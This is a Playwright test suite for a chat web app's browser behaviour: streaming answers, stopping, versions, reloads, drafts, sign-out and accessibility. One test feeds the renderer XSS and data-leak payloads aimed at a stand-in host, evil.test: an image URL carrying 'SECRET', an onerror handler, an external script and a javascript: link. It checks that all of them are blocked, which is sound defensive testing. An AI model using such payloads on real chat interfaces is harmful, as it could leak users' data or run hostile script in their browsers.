import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, afterEach, before, describe, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { startTestServer } from '../server.ts';
import { freePort, skipWithout } from '../services.ts';
import { becomes } from './becomes.ts';
import { launchBrowser } from './browser.ts';
import { openChatTab, seedSession, stageEnvironment, startChatStage } from './chat-stage.ts';
import type { ChatStage, ChatTab } from './chat-stage.ts';

const words = (count: number) => Array.from({ length: count }, (_, index) => `word${index}`).join(' ');

describe('chat in Chromium', skipWithout('chromium'), () => {
  let stage: ChatStage;
  let browser: Browser;
  let tabs: ChatTab[] = [];

  const openTab = async (options = {}): Promise<ChatTab> => {
    const tab = await openChatTab(browser, stage, options);
    tabs.push(tab);
    return tab;
  };

  before(async () => {
    stage = await startChatStage();
    browser = await launchBrowser();
  });
  afterEach(async () => {
    for (const { context } of tabs) await context.close();
    const complaints = tabs.flatMap((tab) => tab.complaints);
    const foreign = tabs.flatMap((tab) => tab.foreign);
    tabs = [];
    stage.answerWith({});
    assert.deepEqual(complaints, []);
    assert.deepEqual(foreign, []);
  });
  after(async () => {
    await browser.close();
    await stage.close();
  });

  test('the first message creates the session and its answer streams in, without a frame in which the question is gone', async () => {
    const tab = await openTab();
    stage.answerWith({ tokens: 20, pace_ms: 10 });
    await tab.open();
    await tab.page.evaluate(watchQuestion);
    await tab.send('What is a causeway?');
    await tab.answered();
    assert.match(new URL(tab.page.url()).pathname, /^\/chat\/ses_/u);
    assert.equal(await tab.composer.inputValue(), '');
    assert.match(await tab.said(), /word0 word1 .* word19/su);
    assert.match(await tab.said(), /fake-1\d+ tokens in · 20 out/u);
    await tab.list.getByRole('link', { name: 'What is a causeway?' }).waitFor();
    assert.equal(await tab.page.evaluate(() => Reflect.get(globalThis, 'lostFrames')), 0);
  });

  test('Escape stops within 6 frames of feedback, which are 100 ms, and the part that came is kept', async () => {
    const tab = await openTab();
    stage.answerWith({ tokens: 60, pace_ms: 5, hold: 30 });
    await tab.open();
    await tab.send('A long story');
    await tab.answers.last().getByText('word9').waitFor();
    const frames = await tab.page.evaluate(pressEscape);
    assert.ok(frames <= 6, `${frames} frames`);
    await tab.answers.last().getByText('Stopped', { exact: true }).waitFor();
    assert.match(await tab.said(), /word9/u);
    await tab.page.reload();
    await tab.answers.last().getByText('Stopped', { exact: true }).waitFor();
  });

  test('an edited question and a regenerated answer are versions to switch between', async () => {
    const tab = await openTab();
    stage.answerWith({ text: 'First answer.' });
    await tab.open();
    await tab.send('First question');
    await tab.answered();

    stage.answerWith({ text: 'Second answer.' });
    await tab.answers.last().getByRole('button', { name: 'Regenerate' }).click();
    await tab.answers.getByText('Second answer.').waitFor();
    await tab.page.getByRole('group', { name: 'Answer 2 of 2' }).waitFor();
    await tab.page.getByRole('button', { name: 'Answer before' }).click();
    await tab.answers.getByText('First answer.').waitFor();

    stage.answerWith({ text: 'Third answer.' });
    await tab.questions.hover();
    await tab.questions.getByRole('button', { name: 'Edit' }).click();
    const field = tab.page.getByRole('textbox', { name: 'Edit your question' });
    await field.fill('Better question');
    await field.press('Enter');
    await tab.answers.getByText('Third answer.').waitFor();
    await tab.page.getByRole('group', { name: 'Question 2 of 2' }).waitFor();

    await tab.page.reload();
    await tab.questions.getByText('Better question').waitFor();
    await tab.page.getByRole('button', { name: 'Question before' }).click();
    await tab.questions.getByText('First question').waitFor();
    assert.equal(await tab.answers.count(), 1);
  });

  test('a reload in the middle of an answer shows it from its beginning and goes on', async () => {
    const tab = await openTab();
    stage.answerWith({ tokens: 60, pace_ms: 5, hold: 30 });
    await tab.open();
    await tab.send('Count');
    await tab.answers.last().getByText('word8').waitFor();
    await tab.page.reload();
    await tab.answers.last().getByText('word0 word1').waitFor();
    stage.upstream.release();
    await tab.answered();
    assert.ok((await tab.said()).includes(words(60)));
  });

  test('a second tab sees the same answer grow, and the stop of the other', async () => {
    const one = await openTab();
    stage.answerWith({ tokens: 60, pace_ms: 5, hold: 30 });
    await one.open();
    await one.send('For both');
    await one.answers.last().getByText('word5').waitFor();
    const two = await openTab({ beside: one });
    await two.open(`/chat/${one.sessionId()}`);
    await two.answers.last().getByText('word15').waitFor();
    await two.page.getByRole('button', { name: 'Stop', exact: true }).click();
    await one.answers.last().getByText('Stopped', { exact: true }).waitFor();
    await two.answers.last().getByText('Stopped', { exact: true }).waitFor();
    const [first, second] = [one, two].map((tab) => tab.answers.last().locator('.markdown'));
    assert.ok(first !== undefined && second !== undefined);
    await becomes(two.page, async () => (await second.textContent()) === (await first.textContent()), true);

    stage.answerWith({ text: 'Said in the other tab.' });
    await two.send('And now');
    await one.answers.getByText('Said in the other tab.').waitFor();
    await becomes(one.page, () => one.answers.count(), 2);
  });

  test('drafts stay with their session over reloads', async () => {
    const tab = await openTab();
    await seedSession(stage, 'draft-session', 'Hello');
    await tab.open();
    await tab.composer.fill('for a new chat');
    await tab.open('/chat/draft-session');
    await tab.questions.getByText('Hello').waitFor();
    const typed = () => tab.composer.inputValue();
    assert.equal(await typed(), '');
    await tab.composer.fill('half a thought');
    await tab.page.reload();
    await becomes(tab.page, typed, 'half a thought');
    await tab.open();
    await becomes(tab.page, typed, 'for a new chat');
  });

  test('images and scripts of an answer load nothing from anywhere', async () => {
    const tab = await openTab();
    const text = [
      '![x](https://evil.test/a.png?q=SECRET) ![y](//evil.test/b.png) ![z](/v1/sessions)',
      '<img src="https://evil.test/c.png" onerror="document.title=1"><script src="https://evil.test/d.js"></script>',
      '[run](javascript:document.title=2) [go](https://example.com/ok)',
    ].join('\n\n');
    stage.answerWith({ text, pace_ms: 2 });
    await tab.open();
    await tab.send('Attack');
    await tab.answered();
    const chip = tab.page.getByRole('link', { name: 'Image blocked: evil.test (x)' });
    assert.equal(await chip.getAttribute('rel'), 'noopener noreferrer nofollow');
    assert.equal(await tab.answers.locator('img, script, iframe').count(), 0);
    assert.deepEqual(await tab.answers.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href'))), [
      'https://evil.test/a.png?q=SECRET',
      'https://example.com/ok',
    ]);
    assert.deepEqual(tab.foreign, []);
  });

  test('a failed answer names its cause and can be asked for again', async () => {
    const tab = await openTab();
    stage.answerWith({ status: 401, error_message: 'Incorrect API key provided.' });
    await tab.open();
    await tab.send('Will fail');
    await tab.answers.getByText('Failed', { exact: true }).waitFor();
    await tab.answers
      .getByText(/Incorrect API key/u)
      .first()
      .waitFor();
    stage.answerWith({ text: 'Works now.' });
    await tab.answers.locator('.answer-outcome').getByRole('button', { name: 'Regenerate' }).click();
    await tab.answers.getByText('Works now.').waitFor();
  });

  test('a refused message comes back into the composer with its cause', async () => {
    const tab = await openTab();
    await seedSession(stage, 'busy-session', 'Hello');
    await tab.open('/chat/busy-session');
    await tab.page.route('**/v1/sessions/busy-session/messages', (route) => route.fulfill(refusal));
    await tab.send('Please keep me');
    await tab.page.getByRole('alert').getByText('An answer is being generated').first().waitFor();
    await becomes(tab.page, () => tab.composer.inputValue(), 'Please keep me');
    await becomes(tab.page, () => tab.questions.count(), 1);
  });

  test('a restart of the server is said below the composer, and the thread goes on by itself', async () => {
    const tab = await openTab();
    const environment = {
      ...stageEnvironment(stage.upstream),
      CAUSEWAY_DATA_DIR: mkdtempSync(join(tmpdir(), 'causeway-')),
      CAUSEWAY_PORT: String(await freePort()),
    };
    const own = await startTestServer(environment);
    await tab.page.goto(`${own.url}/chat`);
    stage.answerWith({ text: 'Before.' });
    await tab.send('One');
    await tab.answered();
    await own.close();
    await tab.page
      .getByText(/Your text is kept/u)
      .first()
      .waitFor();
    await tab.composer.fill('typed while away');
    const again = await startTestServer(environment);
    try {
      await tab.page
        .getByText(/Your text is kept/u)
        .first()
        .waitFor({ state: 'hidden' });
      await becomes(tab.page, () => tab.composer.inputValue(), 'typed while away');
      stage.answerWith({ text: 'After.' });
      await tab.composer.press('Enter');
      await tab.answers.getByText('After.').waitFor();
    } finally {
      await again.close();
      rmSync(own.dataDir, { recursive: true, force: true });
    }
  });

  test('a lost sign-in asks for a new one and keeps what was typed', async () => {
    const own = await startTestServer({ ...stageEnvironment(stage.upstream), CAUSEWAY_AUTH: 'on' });
    try {
      const tab = await openTab();
      await tab.page.goto((await own.signInUrl()) ?? '');
      await tab.page.waitForURL(`${own.url}/`);
      await tab.page.goto(`${own.url}/chat`);
      stage.answerWith({ text: 'Known.' });
      await tab.send('Who am I');
      await tab.answers.getByText('Known.').waitFor();
      await tab.composer.fill('not sent yet');
      const other = await tab.context.newPage();
      await other.goto(own.url);
      const status = await other.evaluate(async () => (await fetch('/api/v1/sign-in', { method: 'DELETE' })).status);
      assert.equal(status, 204);
      await tab.page.getByRole('heading', { name: 'This browser was signed out' }).waitFor();
      await other.goto((await own.signInUrl()) ?? '');
      await tab.answers.getByText('Known.').waitFor();
      await becomes(tab.page, () => tab.composer.inputValue(), 'not sent yet');
      stage.answerWith({ text: 'Known again.' });
      await tab.composer.press('Enter');
      await tab.answers.getByText('Known again.').waitFor();
    } finally {
      await own.close();
    }
  });

  test('screen readers hear of a finished answer once, not of its words', async () => {
    const tab = await openTab();
    stage.answerWith({ tokens: 30, pace_ms: 10 });
    await tab.open();
    await tab.page.evaluate(collectAnnouncements);
    await tab.send('Say it once');
    await tab.answered();
    const heard = () => tab.page.evaluate(() => Reflect.get(globalThis, 'announced') as string[]);
    await becomes(tab.page, async () => (await heard()).length > 0, true);
    const announced = await heard();
    assert.equal(announced.length, 1);
    assert.match(announced[0] ?? '', /^Answer finished\. word0 word1/u);
  });

  test('reading further up is not disturbed by a growing answer', async () => {
    const tab = await openTab({ height: 600 });
    stage.answerWith({ tokens: 600, pace_ms: 5, hold: 400 });
    await tab.open();
    await tab.send('A long one');
    await tab.answers.last().getByText('word300').waitFor();
    const scroller = tab.page.getByRole('region', { name: 'Conversation' });
    const follows = async () => (await scroller.evaluate(fromEnd)) < 30;
    await becomes(tab.page, follows, true);
    await scroller.hover();
    await tab.page.mouse.wheel(0, -400);
    await tab.page.getByRole('button', { name: 'Jump to latest' }).waitFor();
    const top = await scroller.evaluate(restingTop);
    stage.upstream.release();
    await tab.answers.last().getByText('word450').waitFor({ state: 'attached' });
    assert.equal(await scroller.evaluate((box) => box.scrollTop), top);
    await tab.page.getByRole('button', { name: 'Jump to latest' }).click();
    await tab.answered();
    await becomes(tab.page, follows, true);
  });
});

const refusal = {
  status: 409,
  contentType: 'application/json',
  body: JSON.stringify({
    error: {
      type: 'conflict_error',
      code: 'session_busy',
      message: 'An answer is being generated in this session.',
      param: null,
      cause: null,
      fix: { summary: 'Wait for it or stop it first.' },
      retryable: false,
      request_id: 'req_1',
      doc_url: '/docs/errors#session_busy',
    },
  }),
};

const fromEnd = (box: Element) => box.scrollHeight - box.clientHeight - box.scrollTop;

/** Where a turn of the wheel ends. */
async function restingTop(box: Element): Promise<number> {
  for (let last = Number.NaN; last !== box.scrollTop;) {
    last = box.scrollTop;
    for (let frame = 0; frame < 6; frame += 1) await new Promise(requestAnimationFrame);
  }
  return box.scrollTop;
}

/** Counts the frames without a question after the first with one. */
function watchQuestion(): void {
  let wasSeen = false;
  let lost = 0;
  const look = () => {
    const isSeen = document.querySelector('.question') !== null;
    wasSeen ||= isSeen;
    if (wasSeen && !isSeen) lost += 1;
    Reflect.set(globalThis, 'lostFrames', lost);
    requestAnimationFrame(look);
  };
  look();
}

/** Frames that are drawn between the key and the first change of the button; a busy machine draws fewer in the same time. */
async function pressEscape(): Promise<number> {
  document.body.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, cancelable: true }));
  for (let frames = 0; ; frames += 1) {
    if (document.querySelector('.composer-act[aria-label="Stop"]') === null) return frames;
    await new Promise(requestAnimationFrame);
  }
}

function collectAnnouncements(): void {
  const announced: string[] = [];
  Reflect.set(globalThis, 'announced', announced);
  const observer = new MutationObserver(() => {
    const text = document.querySelector('.thread > [aria-live]')?.textContent ?? '';
    if (text !== '' && announced.at(-1) !== text) announced.push(text);
  });
  observer.observe(document.body, { subtree: true, childList: true, characterData: true });
}
